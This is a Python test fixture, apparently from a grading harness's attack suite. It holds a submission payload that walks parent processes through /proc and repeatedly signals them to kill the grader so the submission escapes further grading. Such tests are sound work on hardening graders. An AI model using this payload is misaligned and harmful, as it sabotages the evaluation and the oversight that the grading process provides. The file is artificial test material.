"""Kills the processes above it."""

from tests.attacks.attack import Attack
from tests.attacks.pieces import OUTPUT_SIZE_POINTS
from tests.attacks.sources import OUTPUT_SIZE

ATTACK = Attack(
    wants="a class that is not graded any further",
    top="""
import os, signal

def above():
    pid = os.getppid()
    for _ in range(4):
        if pid <= 1:
            return
        yield pid
        try:
            stat = open(f"/proc/{pid}/stat").read()
        except OSError:
            return
        pid = int(stat.rpartition(")")[2].split()[1])
        if "keeper" in open(f"/proc/{pid}/cmdline").read():
            return

for pid in list(above()):
    for number in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGKILL):
        for send in (os.kill, lambda p, n: os.killpg(os.getpgid(p), n) if p != os.getppid() else 0,
                     lambda p, n: signal.pidfd_send_signal(os.pidfd_open(p), n)):
            try:
                send(pid, number)
            except (OSError, AttributeError) as error:
                print(type(error).__name__)
""",
    solutions={"output_size": OUTPUT_SIZE},
    deserves=OUTPUT_SIZE_POINTS,
)
